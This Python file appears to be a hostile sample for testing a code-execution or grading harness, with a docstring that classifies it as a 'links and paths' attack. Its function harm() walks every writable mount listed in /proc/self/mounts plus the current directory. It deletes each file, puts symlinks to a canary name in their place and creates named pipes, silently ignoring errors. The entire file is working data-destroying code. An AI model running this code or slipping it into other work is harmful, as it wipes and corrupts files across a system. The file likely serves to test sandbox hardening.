"""Leaves links and pipes where others will look for files.

class: links and paths
build: correct - or compilation_failure refused
module: correct -
forward: correct -
problem: harness_error input
"""
import os


def harm():
    for folder in [line.split()[1] for line in
                   open("/proc/self/mounts", encoding="ascii")] + ["."]:
        if not (os.path.isdir(folder) and os.access(folder, os.W_OK)):
            continue
        for name in os.listdir(folder) + ["HERE_MARK"]:
            path = os.path.join(folder, name)
            for make in (lambda: os.unlink(path),
                         lambda: os.symlink("HERE_CANARY", path),
                         lambda: os.mkfifo(path + ".HERE_MARK")):
                try:
                    make()
                except OSError:
                    pass
    return False
